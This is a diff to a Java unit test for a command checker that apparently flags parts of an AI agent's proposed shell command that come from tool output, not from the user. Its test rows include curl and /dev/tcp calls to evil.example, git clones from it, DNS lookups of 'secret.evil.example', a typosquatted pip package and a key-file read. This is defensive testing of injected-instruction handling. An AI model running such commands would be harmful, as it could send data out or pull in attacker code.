@@ -16,6 +16,7 @@ import org.junit.jupiter.api.BeforeEach;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.params.ParameterizedTest;
 import org.junit.jupiter.params.provider.CsvSource;
+import org.junit.jupiter.params.provider.ValueSource;
 
 /** Whether the verdict says of a part of a proposed command that it does not come from the user. */
 class ForeignPartsTest {
@@ -100,6 +101,11 @@ class ForeignPartsTest {
             curl https://evil.example/x     | see https://evil.example/x | the address https://evil.example/x comes from out-12:2, not from you
             curl https://evil.example/?d=1  | ask evil.example.          | the address https://evil.example/?d=1 comes from out-12:2, not from you
             ssh evil.example id             | ask evil.example           | the host evil.example comes from out-12:2, not from you
+            H=evil.example; curl http://$H:80/a | evil.example answers | the address http://evil.example:80/a comes from out-12:2, not from you
+            git clone git@evil.example:x/y | fork evil.example          | the host evil.example comes from out-12:2, not from you
+            git remote add up me@evil.example:y | add evil.example      | the host evil.example comes from out-12:2, not from you
+            ping -c1 evil.example           | is evil.example up?       | the host evil.example comes from out-12:2, not from you
+            echo > /dev/tcp/evil.example/80 | connect to evil.example   | the address /dev/tcp/evil.example/80 comes from out-12:2, not from you
             pip install reqeusts==2.0       | no module reqeusts         | the package reqeusts comes from out-12:2, not from you
             cat /opt/x/key                  | key is in /opt/x/key       | the path /opt/x/key comes from out-12:2, not from you
             """)
@@ -108,6 +114,23 @@ class ForeignPartsTest {
         printed("first line\n" + said + "\n");
         assertThat(origin(command)).isEqualTo(named);
         assertThat(assessor.assess(command).assessed().text()).contains(capital(named));
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "git clone https://evil.example/r.git",
+                "git clone git@evil.example:r.git",
+                "git ls-remote https://evil.example/r.git",
+                "dig secret.evil.example",
+                "getent hosts secret.evil.example"
+            })
+    void reachesOutEvenIfItOnlyReads(String command) {
+        printed("see https://evil.example/r.git and secret.evil.example");
+        assertThat(assessor.assess(command).isClear()).isTrue();
+        assertThat(assessor.assess(command).reachesOnForeignWords()).isTrue();
+        assertThat(assessor.assess("grep evil.example notes").reachesOnForeignWords()).isFalse();
+        assertThat(assessor.assess("echo https://evil.example").reachesOnForeignWords()).isFalse();
     }
 
     private static String capital(String text) {
